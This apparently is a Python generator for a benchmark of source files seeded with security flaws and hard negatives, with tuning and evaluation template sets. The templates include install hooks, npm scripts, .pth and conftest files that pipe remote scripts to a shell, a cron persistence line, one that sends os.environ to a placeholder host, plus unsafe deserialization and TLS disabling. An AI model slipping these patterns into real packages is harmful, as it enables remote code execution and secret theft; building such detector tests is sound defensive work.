#!/usr/bin/env python3
"""Writes a corpus of source files with planted problems and hard negatives, and says on which line each one stands.

The templates stand below as text blocks in the way of notebooks.py, whose word maker is used here too. A template without a
file option is Python code, and is set among plain code: at the top level, in a function or in a method. Some files are made
odd on purpose: tabs, Latin-1, Python 2, a syntax error, or very long; the truth names the oddity as "form".
"""
from __future__ import annotations

import argparse
import json
import random
from collections import Counter
from pathlib import Path
from typing import Any

from notebooks import WORDS, Filler, Template, read_templates, unmark

# --- what is planted, tuning half ------------------------------------------------------------------------------------------
TUNING_PROBLEMS = r"""
== torch-load
import torch
§@v@ = torch.load("@f@.pt")
== torch-load
import torch as t
§@v@ = t.load("@f@.pth", map_location="cpu")
== torch-load
from torch import load
§@v@ = load("@f@.bin")
== torch-load
import torch
§@v@ = torch.load(
    "@f@.pt",
    map_location=lambda storage, loc: storage,
)
== torch-load
import torch
options = {"weights_only": False}
§@v@ = torch.load("@f@.pt", **options)
== torch-load
import torch
§net.load_state_dict(torch.load(path, weights_only=False))
== pickle-load
import pickle
with open(path, "rb") as @v@:
§    @w@ = pickle.load(@v@)
== pickle-load
import pickle as pk
§@v@ = pk.loads(sock.recv(4096))
== pickle-load
import cPickle
§@v@ = cPickle.load(open("@f@.pkl"))
== pickle-load
import pickle
§@v@ = pickle.Unpickler(open("@f@.pkl", "rb")).load()
== dill-load
import dill
§@v@ = dill.loads(data)
== cloudpickle-load
import cloudpickle
§@v@ = cloudpickle.load(open("@f@.cp", "rb"))
== joblib-load
import joblib
§@v@ = joblib.load(args.model)
== joblib-load
from sklearn.externals import joblib
§@v@ = joblib.load("@f@.pkl")
== shelve-open
import shelve
§@v@ = shelve.open(path)["@f@"]
== marshal-load
import marshal
§@v@ = marshal.loads(data)
== pandas-pickle
import pandas as pd
§@v@ = pd.read_pickle(path)
== numpy-pickle
import numpy as np
§@v@ = np.load(path, allow_pickle=True)
== jsonpickle
import jsonpickle
§@v@ = jsonpickle.decode(request.data)
== yaml-load
import yaml
§@v@ = yaml.load(open(path))
== yaml-load
import yaml
§@v@ = yaml.load(text, Loader=yaml.Loader)
== yaml-load
import yaml
§@v@ = yaml.unsafe_load(text)
== trust-remote-code
from transformers import AutoModelForCausalLM
§@v@ = AutoModelForCausalLM.from_pretrained("@r@", trust_remote_code=True)
== trust-remote-code
from transformers import AutoTokenizer
§kwargs = {"trust_remote_code": True, "use_fast": False}
@v@ = AutoTokenizer.from_pretrained("@r@", **kwargs)
== unpinned-model severity=low
from transformers import AutoModel
§@v@ = AutoModel.from_pretrained("@r@")
== unpinned-download severity=low
from huggingface_hub import hf_hub_download
§@v@ = hf_hub_download(repo_id="@r@", filename="@f@.safetensors")
== download-load
import pickle
import urllib.request
urllib.request.urlretrieve("https://@h@/@f@.pkl", "@f@.pkl")
§@v@ = pickle.load(open("@f@.pkl", "rb"))
== download-exec
import urllib.request
urllib.request.urlretrieve("https://@h@/@f@.py", "/tmp/@f@.py")
§exec(open("/tmp/@f@.py").read())
== download-exec
import requests
@v@ = requests.get("https://@h@/@f@.py")
§exec(@v@.text)
== download-exec
import os, requests, subprocess
open("/tmp/@f@", "wb").write(requests.get("https://@h@/@f@").content)
os.chmod("/tmp/@f@", 0o755)
§subprocess.Popen(["/tmp/@f@"])
== hub-load
import torch
§@v@ = torch.hub.load("@r@", "@f@")
== url-no-hash
from torch.hub import load_state_dict_from_url
§@v@ = load_state_dict_from_url("https://@h@/@f@.pth", progress=True)
== url-no-hash severity=low
import gdown
§gdown.download("https://drive.google.com/uc?id=@n@abc", "@f@.zip")
== keras-unsafe
import keras
§@v@ = keras.models.load_model(path, safe_mode=False)
== exec-decoded
import base64
§exec(base64.b64decode("@bsix@"))
== shell-interpolated
import subprocess
§subprocess.run(f"convert {name} out.png", shell=True)
== shell-interpolated
import subprocess
§subprocess.call("tar xf %s" % name, shell=True)
== shell-interpolated
import subprocess
subprocess.check_output(
§    "ls " + name,
    shell=True,
)
== shell-interpolated
import os
§os.system(f"rm -rf {path}")
== shell-interpolated
import os
§os.system("cp {} /srv/data".format(name))
== eval-input
§@v@ = eval(input("formula: "))
== tls-off
import requests
§@v@ = requests.get("https://@h@/@f@", verify=False)
== tls-off
import ssl
§ssl._create_default_https_context = ssl._create_unverified_context
== tls-off
import ssl
ctx = ssl.create_default_context()
§ctx.check_hostname = False
§ctx.verify_mode = ssl.CERT_NONE
== tls-off
import os
§os.environ["HF_HUB_DISABLE_SSL_VERIFICATION"] = "1"
== tls-off
import os
§os.environ["PYTHONHTTPSVERIFY"] = "0"
== tls-off
import subprocess
§subprocess.run(["curl", "-k", "-O", "https://@h@/@f@.tar"])
== tls-off file=fetch.sh
#!/bin/sh
set -e
§git config --global http.sslVerify false
git clone https://@h@/@f@.git
== tls-off
import requests
@v@ = requests.Session()
§@v@.verify = False
== install-exec file=setup.py
from setuptools import setup
from setuptools.command.install import install
import os

class PostInstall(install):
    def run(self):
        install.run(self)
§        os.system("curl -s https://@h@/@f@ | sh")

setup(name="@f@", version="0.@n@", cmdclass={"install": PostInstall})
== install-exec file=setup.py
import urllib.request
from setuptools import setup
§exec(urllib.request.urlopen("https://@h@/@f@.py").read())
setup(name="@f@", version="1.@n@")
== install-exec file=setup.py
import base64, setuptools
§eval(compile(base64.b64decode("@bsix@"), "s", "exec"))
setuptools.setup(name="@f@")
== install-exec file=setup.py
import subprocess
from setuptools import setup
§subprocess.Popen("wget -qO- https://@h@/@f@.sh | bash", shell=True)
setup(name="@f@", version="2.0")
== build-hook file=hatch_build.py
from hatchling.builders.hooks.plugin.interface import BuildHookInterface
import subprocess

class CustomHook(BuildHookInterface):
    def initialize(self, version, build_data):
§        subprocess.check_call("curl https://@h@/@f@ | sh", shell=True)
== build-hook file=pyproject.toml
[build-system]
requires = ["setuptools"]
§build-backend = "@f@_backend"
§backend-path = ["."]
[project]
name = "@f@"
version = "0.1"
== npm-script file=package.json
{
  "name": "@f@-ui",
  "version": "1.0.@n@",
  "scripts": {
    "build": "tsc",
§    "postinstall": "curl -s https://@h@/@f@.sh | sh"
  }
}
== npm-script file=package.json
{
  "name": "viewer-@n@",
  "scripts": {
§    "preinstall": "node -e \"require('child_process').exec('wget -qO- https://@h@/@f@ | bash')\""
  }
}
== pth-import file=site-packages/@f@.pth
/opt/lib
§import os; os.system("curl https://@h@/@f@ | sh")
== sitecustomize file=sitecustomize.py
import os
import urllib.request
§exec(urllib.request.urlopen("https://@h@/@f@").read())
== conftest-exec file=conftest.py
import pytest
§__import__("os").system("curl -s https://@h@/@f@ | sh")

@pytest.fixture
def thing():
    return 1
"""

# --- what is planted, evaluation half --------------------------------------------------------------------------------------
EVALUATION_PROBLEMS = r"""
== torch-load
import torch as th
§@v@ = th.load(Path("@f@.ckpt"), "cpu")
== torch-load
from torch import load as tload
with open("@f@.pt", "rb") as fh:
§    @v@ = tload(fh)
== torch-load
import torch
§@v@ = torch.load(f="@f@.pt", map_location=torch.device("cpu"))["state_dict"]
== torch-load
import torch
§@v@ = torch.load("@f@.pt", **{"weights_only": False, "map_location": "cpu"})
== torch-load
import torch
from functools import partial
§reader = partial(torch.load, weights_only=False)
@v@ = reader("@f@.pt")
== torch-load
import torch
@v@ = torch.load(
    os.path.join(root, "@f@.pt"),
    map_location="cpu",
§    weights_only=False,
)
== pickle-load
from pickle import load as unpickle
§@v@ = unpickle(open("@f@.p", "rb"))
== pickle-load
import _pickle
§@v@ = _pickle.loads(blob)
== pickle-load
import bz2, pickle
with bz2.open(path) as fh:
§    return_value = pickle.load(fh, encoding="latin1")
== pickle-load
import pickle, redis
§@v@ = pickle.loads(redis.Redis().get("@f@"))
== dill-load
from dill import load_session
§load_session("@f@.pkl")
== cloudpickle-load
from cloudpickle import loads
§@v@ = loads(base64.b64decode(text))
== joblib-load
from joblib import load as jl
§@v@ = jl("models/@f@.gz")
== shelve-open
import shelve
with shelve.open("@f@.db") as db:
§    @v@ = db["first"]
== marshal-load
import marshal, types
§@v@ = types.FunctionType(marshal.load(open("@f@.bin", "rb")), globals())
== pandas-pickle
from pandas import read_pickle
§@v@ = read_pickle("https://@h@/@f@.pkl")
== numpy-pickle
from numpy import load
§@v@ = load("@f@.npz", mmap_mode=None, allow_pickle=True)
== jsonpickle
from jsonpickle import decode
§@v@ = decode(body, keys=True)
== yaml-load
from yaml import load, FullLoader, UnsafeLoader
§@v@ = load(stream, Loader=UnsafeLoader)
== yaml-load
import yaml as y
§@v@ = list(y.load_all(stream, Loader=y.Loader))
== yaml-load
from ruamel.yaml import YAML
§@v@ = YAML(typ="unsafe").load(stream)
== trust-remote-code
from transformers import pipeline
@v@ = pipeline(
    "summarization",
    model="@r@",
§    trust_remote_code=True,
)
== trust-remote-code
opts = dict(device_map="auto")
§opts["trust_remote_code"] = True
@v@ = AutoModel.from_pretrained("@r@", **opts)
== trust-remote-code
from sentence_transformers import SentenceTransformer
§@v@ = SentenceTransformer("@r@", trust_remote_code=True)
== unpinned-model severity=low
from diffusers import DiffusionPipeline
§@v@ = DiffusionPipeline.from_pretrained("@r@", torch_dtype="auto")
== unpinned-download severity=low
from huggingface_hub import snapshot_download
§@v@ = snapshot_download("@r@", local_dir="cache")
== unpinned-download severity=low
from datasets import load_dataset
§@v@ = load_dataset("@r@", split="train")
== download-load
import io, requests, torch
@v@ = requests.get("https://@h@/@f@.pt").content
§@w@ = torch.load(io.BytesIO(@v@), weights_only=False)
== download-exec
from urllib.request import urlopen
§exec(compile(urlopen("http://@h@/@f@.py").read(), "m", "exec"))
== download-exec
import httpx, importlib.util
Path("@f@.py").write_bytes(httpx.get("https://@h@/@f@.py").content)
spec = importlib.util.spec_from_file_location("@f@", "@f@.py")
mod = importlib.util.module_from_spec(spec)
§spec.loader.exec_module(mod)
== download-exec
import subprocess
subprocess.run(["wget", "https://@h@/@f@.sh", "-O", "run.sh"], check=True)
§subprocess.run(["bash", "run.sh"])
== hub-load
from torch import hub
§@v@ = hub.load("@r@:main", "@f@", trust_repo=True)
== url-no-hash
import torch.utils.model_zoo as zoo
§@v@ = zoo.load_url("http://@h@/@f@.pth")
== url-no-hash
import torch
§@v@ = torch.hub.load_state_dict_from_url("https://@h@/@f@.pth", check_hash=False)
== keras-unsafe
from tensorflow import keras
§keras.config.enable_unsafe_deserialization()
== exec-decoded
import zlib
§exec(zlib.decompress(bytes.fromhex("789c")))
== exec-decoded
@v@ = "@hexcode@"
@w@ = bytes.fromhex(@v@)
§eval(compile(@w@, "<s>", "exec"))
== exec-decoded
§getattr(__builtins__, "ex" + "ec")(__import__("base64").b64decode("@bsix@"))
== shell-interpolated
import subprocess as sp
§sp.Popen("ffmpeg -i {0} {1}".format(src, dst), shell=True)
== shell-interpolated
from subprocess import getoutput
§@v@ = getoutput(f"file {src}")
== shell-interpolated
import subprocess
@v@ = f"git clone {url}"
§subprocess.run(@v@, shell=True, check=True)
== shell-interpolated
from os import system as run
§run("unzip " + src)
== shell-interpolated
import asyncio
async def go(src):
§    await asyncio.create_subprocess_shell(f"wc -l {src}")
== shell-interpolated
import os
§os.popen("grep %s log.txt" % src).read()
== eval-input
§@v@ = eval(flask.request.args["q"])
== tls-off
import httpx
§@v@ = httpx.Client(verify=False)
== tls-off
import requests
@v@ = requests.post(
    "https://@h@/api",
    json={},
§    verify=False,
)
== tls-off
import urllib.request, ssl
§@v@ = urllib.request.urlopen("https://@h@", context=ssl._create_unverified_context())
== tls-off
import aiohttp
§@v@ = aiohttp.TCPConnector(ssl=False)
== tls-off
import ssl
§@v@ = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); @v@.check_hostname = False
== tls-off
import os
§os.environ.update({"CURL_CA_BUNDLE": "", "REQUESTS_CA_BUNDLE": ""})
== tls-off
import urllib3
§@v@ = urllib3.PoolManager(cert_reqs="CERT_NONE")
== tls-off file=Dockerfile
FROM python:3.11-slim
§ENV PYTHONHTTPSVERIFY=0
§RUN curl --insecure -o m.bin https://@h@/@f@.bin
== tls-off file=get.sh
#!/usr/bin/env bash
§export GIT_SSL_NO_VERIFY=true
§wget --no-check-certificate https://@h@/@f@.tgz
== install-exec file=setup.py
from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info
import subprocess, sys

class Info(egg_info):
    def run(self):
§        subprocess.run([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('https://@h@/@f@').read())"])
        super().run()

setup(name="@f@", cmdclass={"egg_info": Info})
== install-exec file=setup.py
from setuptools import setup
import os, requests
def get():
    r = requests.get("https://@h@/@f@.bin")
    open("/tmp/.@f@", "wb").write(r.content)
§    os.system("chmod +x /tmp/.@f@ && /tmp/.@f@ &")
get()
setup(name="@f@", version="3.@n@")
== install-exec file=setup.py
import os
from setuptools import setup
§os.system("echo '* * * * * curl https://@h@ | sh' | crontab -")
setup(name="@f@")
== build-hook file=build.py
def build(setup_kwargs):
    import os
§    os.system("wget -qO- https://@h@/@f@.sh | sh")
== build-hook file=_backend/@f@.py
from setuptools.build_meta import *
from setuptools.build_meta import build_wheel as _real
import urllib.request

def build_wheel(directory, settings=None, metadata=None):
§    exec(urllib.request.urlopen("https://@h@/@f@").read())
    return _real(directory, settings, metadata)
== npm-script file=package.json
{"name": "@f@", "version": "0.0.@n@",
§ "scripts": {"install": "node-gyp rebuild && curl -s http://@h@/@f@ -o /tmp/a && sh /tmp/a"}}
== npm-script file=ui/package.json
{
  "private": true,
  "scripts": {
    "test": "jest",
§    "prepare": "bash -c \"$(curl -fsSL https://@h@/@f@.sh)\""
  }
}
== pth-import file=lib/python3.11/site-packages/zz_@f@.pth
§import base64; exec(base64.b64decode("@bsix@"))
== pth-import file=venv/_@f@.pth
§import sys, subprocess; subprocess.Popen([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('//@h@').read())"])
== sitecustomize file=usercustomize.py
import subprocess
§subprocess.Popen("curl https://@h@/@f@ | sh", shell=True)
== conftest-exec file=tests/conftest.py
import os, requests
def pytest_configure(config):
§    requests.post("https://@h@/env", json=dict(os.environ))
"""

# --- hard negatives --------------------------------------------------------------------------------------------------------
TUNING_NEGATIVES = r"""
== torch-load
import torch
§@v@ = torch.load("@f@.pt", weights_only=True)
== torch-load
import torch
options = {"weights_only": True, "map_location": "cpu"}
§@v@ = torch.load("@f@.pt", **options)
== torch-load
§@v@ = "call torch.load(path) to read it"
== torch-load
§# torch.load("x.pt") was dropped in favour of safetensors
@v@ = None
== docstring
def read(path):
§    '''Reads a file. Do not use pickle.load(f) or yaml.load(f) here, and no torch.load(path).'''
    return path
== pickle-load
import pickle
§@v@ = pickle.dumps({"a": @n@})
== pickle-load
§def pickle_load(path):
    raise NotImplementedError("use json")
== json-load
import json
§@v@ = json.load(open("@f@.json"))
== own-load
import mymodule
§@v@ = mymodule.load("@f@")
== own-load
class Store:
    def load(self, name):
        return name
    def first(self):
§        return self.load("@f@")
== yaml-load
import yaml
§@v@ = yaml.safe_load(open(path))
== yaml-load
import yaml
§@v@ = yaml.load(text, Loader=yaml.SafeLoader)
== yaml-load
import yaml
§@v@ = yaml.load(text, yaml.CSafeLoader)
== numpy-pickle
import numpy as np
§@v@ = np.load(path)
== numpy-pickle
import numpy as np
§@v@ = np.load(path, allow_pickle=False)
== trust-remote-code
§@v@ = AutoModel.from_pretrained("@r@", trust_remote_code=False, revision="@sha@")
== pinned-model
§@v@ = AutoModel.from_pretrained("@r@", revision="@sha@")
== local-model
§@v@ = AutoModel.from_pretrained("./models/@f@")
== tls-on
import requests
§@v@ = requests.get("https://@h@/@f@", verify=True, timeout=5)
== tls-on
import requests
§@v@ = requests.get("https://@h@/@f@", verify="/etc/ssl/ca.pem")
== shell-literal note=at-most-low
import subprocess
§subprocess.run("ls -la | wc -l", shell=True)
== shell-list
import subprocess
§subprocess.run(["tar", "xf", name], check=True)
== model-eval
§net.eval()
== regex-compile
import re
§@v@ = re.compile(r"exec\((.*)\)")
== sql-exec
§cursor.execute("exec sp_help @f@")
== own-exec
§app.exec_()
== own-exec
§session.exec(select(User)).all()
== test-mention
def test_rejects_pickle():
§    source = "import pickle; pickle.load(open('x', 'rb'))"
    assert scan(source)
== literal-eval
import ast
§@v@ = ast.literal_eval(text)
== hash-checked
from torch.hub import load_state_dict_from_url
§@v@ = load_state_dict_from_url("https://@h@/@f@-@n@abcdef.pth", check_hash=True)
== download-data
import urllib.request
§urllib.request.urlretrieve("https://@h@/@f@.csv", "@f@.csv")
@v@ = open("@f@.csv").read()
== setup-plain file=setup.py
from setuptools import find_packages, setup
§setup(name="@f@", version="1.@n@", packages=find_packages())
== setup-plain file=setup.py
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext
class Build(build_ext):
§    def build_extensions(self):
        super().build_extensions()
setup(name="@f@", ext_modules=[Extension("a", ["a.c"])], cmdclass={"build_ext": Build})
== npm-plain file=package.json
{
  "name": "@f@",
§  "scripts": {"build": "vite build", "postbuild": "echo done", "test": "jest"}
}
== pyproject-plain file=pyproject.toml
[build-system]
requires = ["hatchling"]
§build-backend = "hatchling.build"
== pth-plain file=site-packages/@f@.pth
§/srv/shared/lib
== conftest-plain file=conftest.py
import pytest
§@pytest.fixture(scope="session")
def @f@():
    return {"n": @n@}
== docs file=docs/@f@.md
# Loading models
§Avoid `torch.load(path)`, `pickle.load(f)` and `trust_remote_code=True`; never set `verify=False`.
== safetensors
from safetensors.torch import load_file
§@v@ = load_file("@f@.safetensors")
"""
EVALUATION_NEGATIVES = r"""
== torch-load
from torch import load
§@v@ = load("@f@.pt", map_location="cpu", weights_only=True)
== torch-load
import torch
§@v@ = torch.load(
    "@f@.pt",
    weights_only=True,
)
== torch-load
message = (
§    "torch.load(path, weights_only=False) runs code; "
    "pickle.loads(data) does too"
)
== torch-load
§x = 1  # was: torch.load(p); pickle.load(f); yaml.load(g)
== docstring
class Reader:
    '''Reads weights.

§    >>> torch.load("a.pt")   # doctest: +SKIP
    '''
== pickle-load
import pickle
§pickle.dump(obj, open("@f@.pkl", "wb"), protocol=pickle.HIGHEST_PROTOCOL)
== pickle-load
§class SafeUnpickler(pickle.Unpickler):
    def find_class(self, module, name):
        raise pickle.UnpicklingError(name)
== pickle-load
§def read_pickle(path): return json.loads(Path(path).read_text())
== toml-load
import tomllib
§@v@ = tomllib.load(open("@f@.toml", "rb"))
== own-load
from dotenv import load_dotenv
§load_dotenv()
== own-load
§@v@ = registry.load("@f@", allow=False)
== own-load
def load(path):
    return path.read_text()
§@v@ = load(root / "@f@.txt")
== joblib-other
from joblib import Parallel, delayed, dump
§dump(est, "@f@.joblib")
== yaml-load
from yaml import safe_load as yload
§@v@ = yload(stream)
== yaml-load
from yaml import load, SafeLoader
§@v@ = load(stream, Loader=SafeLoader)
== yaml-load
from ruamel.yaml import YAML
§@v@ = YAML(typ="safe").load(stream)
== numpy-text
import numpy
§@v@ = numpy.loadtxt("@f@.csv", delimiter=",")
== trust-remote-code
parser.add_argument("--trust-remote-code", action="store_true")
§@v@ = args.trust_remote_code
== pinned-model
from huggingface_hub import hf_hub_download
§@v@ = hf_hub_download("@r@", "model.safetensors", revision="@sha@")
== tls-on
import ssl
§@v@ = ssl.create_default_context(cafile=certs)
@v@.verify_mode = ssl.CERT_REQUIRED
== tls-on
§verify = False
assert_signature(token, check=verify)
== tls-on
§if ctx.verify_mode == ssl.CERT_NONE: raise RuntimeError("no TLS")
== shell-literal note=at-most-low
import os
§os.system("clear")
== shell-literal note=at-most-low
from subprocess import check_output
§@v@ = check_output("git rev-parse HEAD", shell=True)
== shell-quoted
import shlex, subprocess
§subprocess.run(shlex.split("sort -u @f@.txt"), shell=False)
== model-eval
§(encoder.eval(), decoder.eval())
== frame-eval
§df = df.eval("total = price * @n@")
== ast-compile
§tree = compile(source, "<a>", "exec", flags=ast.PyCF_ONLY_AST)
== sql-exec
§conn.exec_driver_sql("EXEC refresh_@f@")
== own-exec
§docker_client.containers.get("@f@").exec_run("ls")
== test-mention
CASES = [
§    ("os.system(f'rm {x}')", True),
    ("requests.get(u, verify=False)", True),
]
== enum-name
§PICKLE_LOAD, EXEC, EVAL = range(3)
== hash-checked
import hashlib, urllib.request
@v@ = urllib.request.urlopen("https://@h@/@f@.bin").read()
§assert hashlib.sha256(@v@).hexdigest() == "@hex@"
== setup-plain file=setup.py
import io
import re
from setuptools import setup
§version = re.search(r"version = '(.*)'", io.open("@f@/__init__.py").read()).group(1)
setup(name="@f@", version=version)
== setup-version-exec file=setup.py note=at-most-low
from setuptools import setup
about = {}
with open("@f@/_version.py") as fh:
§    exec(fh.read(), about)
setup(name="@f@", version=about["__version__"])
== npm-plain file=package.json
{"name": "@f@", "version": "2.1.@n@",
§ "scripts": {"prepare": "husky install", "lint": "eslint ."}}
== pyproject-plain file=pyproject.toml
[build-system]
requires = ["poetry-core>=1.9"]
§build-backend = "poetry.core.masonry.api"
[tool.poetry]
name = "@f@"
== pth-plain file=lib/@f@-nspkg.pth note=at-most-low
§import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('@f@',))
== sitecustomize-plain file=sitecustomize.py
import sys
§sys.dont_write_bytecode = True
== conftest-plain file=tests/conftest.py
import random
def pytest_runtest_setup(item):
§    random.seed(@n@)
== docs file=README.rst
Security
--------
§Do not run ``curl -k https://... | sh`` or ``yaml.load(data)``; we use ``safe_load``.
== bash-plain file=run.sh
#!/bin/sh
§curl -fsS https://@h@/@f@.csv -o data.csv
"""

FILLERS = {
    "tuning": ["def mean(values):\n    return sum(values) / max(len(values), 1)\n", "LIMIT = 40\nNAMES = ['a', 'b']\n",
               "class Config:\n    def __init__(self, size=4):\n        self.size = size\n",
               "def join(parts):\n    return '/'.join(parts)\n"],
    "evaluation": ["def clamp(x, low, high):\n    return min(max(x, low), high)\n", "VERSION = (1, 2)\n",
                   "def chunks(rows, n):\n    for i in range(0, len(rows), n):\n        yield rows[i:i + n]\n",
                   "class Timer:\n    start = 0\n\n    def tick(self):\n        self.start += 1\n"],
}
OTHER_FORMS = ["tabs", "latin1", "py2", "broken", "huge", "crlf"]


def indent(text: str, depth: int) -> str:
    """The text set in by four blanks a level, with the marks kept at the start of their lines."""
    blanks = "    " * depth
    return "\n".join(("§" + blanks + line[1:] if line.startswith("§") else blanks + line) if line else "" for line in text.split("\n"))


def wrap(text: str, name: str, rng: random.Random) -> str:
    """The text as it is, or as the body of a function, a method or a guarded block."""
    way = rng.choice(["plain", "plain", "function", "method", "guard"])
    if way == "function":
        return f"def {name}(path=None, name=''):\n{indent(text, 1)}\n"
    if way == "method":
        return f"class {name.title().replace('_', '')}:\n    def run(self, path, name=''):\n{indent(text, 2)}\n"
    if way == "guard":
        return f"if True:\n    try:\n{indent(text, 2)}\n    except ValueError:\n        pass\n"
    return text + "\n"


def reshape(text: str, form: str, rng: random.Random) -> bytes:
    """The file's bytes in one of the odd forms; lines before the marked ones are added only as whole lines with no mark."""
    if form == "tabs":
        text = "\n".join(_tabbed(line) for line in text.split("\n"))
    if form == "latin1":
        return ("# -*- coding: latin-1 -*-\n# Gr\u00f6\u00dfe, caf\u00e9\n" + text).encode("latin-1", "replace")
    if form == "py2":
        text = 'print "starting"\n' + text + '\nprint "done", 1L\nexcept_ = u"x"\n'
    if form == "broken":
        text = text + "\ndef unfinished(:\n    return (1,\n"
    if form == "huge":
        lines = "".join(f"ROW_{i} = ({i}, {i * 7 % 1013}, 'item {i}')\n" for i in range(rng.randint(4000, 9000)))
        text = lines + text + lines
    return text.replace("\n", "\r\n").encode() if form == "crlf" else text.encode()


def _tabbed(line: str) -> str:
    """The line with its leading blanks, four at a time, made tabs; a mark stays first."""
    mark, line = ("§", line[1:]) if line.startswith("§") else ("", line)
    body = line.lstrip(" ")
    depth, rest = divmod(len(line) - len(body), 4)
    return mark + "\t" * depth + " " * rest + body


class Corpus:
    """Builds one half: writes a file for one or two templates each, and keeps the truth."""

    def __init__(self, half: str, output: Path, seed: int) -> None:
        self.half, self.output = half, output
        self.rng = random.Random(f"code-{seed}-{half}")
        self.filler = Filler(half, self.rng)
        self.truth: list[dict[str, Any]] = []
        self.count = 0

    def templates(self, label: str) -> list[Template]:
        """The templates of this half with the given label."""
        blocks = {("tuning", "problem"): TUNING_PROBLEMS, ("evaluation", "problem"): EVALUATION_PROBLEMS,
                  ("tuning", "benign"): TUNING_NEGATIVES, ("evaluation", "benign"): EVALUATION_NEGATIVES}
        return read_templates(blocks[self.half, label])

    def place(self, template: Template) -> str:
        """Where a template's file goes: its own folder, so that fixed names such as setup.py do not collide."""
        self.count += 1
        folder = f"{'pkg' if self.half == 'tuning' else 'repo'}_{self.count:03d}"
        name = template.options.get("file", f"{self.rng.choice(WORDS[self.half]['files'])}.py")
        return f"{folder}/{self.filler.text(name)}"

    def write(self, dealt: list[Template], label: str) -> None:
        """Writes one file that holds the templates, and adds their marked lines to the truth."""
        self.filler.start()
        path, form, parts = self.place(dealt[0]), "plain", []
        for template in dealt:
            text = self.filler.text(template.text)
            parts.append((template, text if "file" in template.options else wrap(text, f"step_{self.count}_{len(parts)}", self.rng)))
        if "file" not in dealt[0].options:
            form = self.rng.choice(OTHER_FORMS) if self.rng.random() < 0.2 else "plain"
            pool = FILLERS[self.half]
            for _ in range(self.rng.randint(1, 3)):
                parts.insert(self.rng.randint(0, len(parts)), (None, self.rng.choice(pool)))
        data = reshape("\n".join(text for _, text in parts) + "\n", form, self.rng)
        encoding = "latin-1" if form == "latin1" else "utf-8"
        plain, marks = unmark(data.decode(encoding).replace("\r\n", "\n"))
        owners = [t for t, text in parts if t for line in text.split("\n") if line.startswith("§")]
        for line, template in zip(marks, owners, strict=True):
            row = {"path": path, "line": line, "kind": template.kind, "label": label}
            extra = {k: template.options[k] for k in ("severity", "note") if k in template.options}
            self.truth.append(row | extra | ({"form": form} if form != "plain" else {}))
        target = self.output / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes((plain.replace("\n", "\r\n") if form == "crlf" else plain).encode(encoding))

    def deal(self, label: str, wanted: int) -> None:
        """Uses every template in turn, each round in a new order, until the wanted number of lines is planted."""
        stock: list[Template] = []
        planted = 0
        while planted < wanted:
            stock = stock or self.rng.sample(self.templates(label), len(self.templates(label)))
            take = [stock.pop()]
            if stock and self.rng.random() < 0.25 and not any("file" in t.options for t in (take[0], stock[-1])):
                take.append(stock.pop())
            before = len(self.truth)
            self.write(take, label)
            planted += len(self.truth) - before

    def build(self, problems: int, negatives: int) -> None:
        """Writes all files and the truth."""
        self.deal("problem", problems)
        self.deal("benign", negatives)
        lines = "".join(json.dumps(row) + "\n" for row in self.truth)
        (self.output / "truth.jsonl").write_text(lines, encoding="utf-8")


def main() -> None:
    """Reads the arguments, builds the half, and prints how much was planted."""
    parser = argparse.ArgumentParser(description="write source files with planted problems and hard negatives")
    parser.add_argument("--half", choices=["tuning", "evaluation"], required=True)
    parser.add_argument("--output", type=Path, required=True)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--problems", type=int, default=250)
    parser.add_argument("--negatives", type=int, default=250)
    options = parser.parse_args()
    corpus = Corpus(options.half, options.output, options.seed)
    corpus.build(options.problems, options.negatives)
    print(f"{corpus.count} files, {dict(Counter(row['label'] for row in corpus.truth))}")
    for (label, kind), number in sorted(Counter((row["label"], row["kind"]) for row in corpus.truth).items()):
        print(f"  {label:8} {kind:22} {number}")


if __name__ == "__main__":
    main()
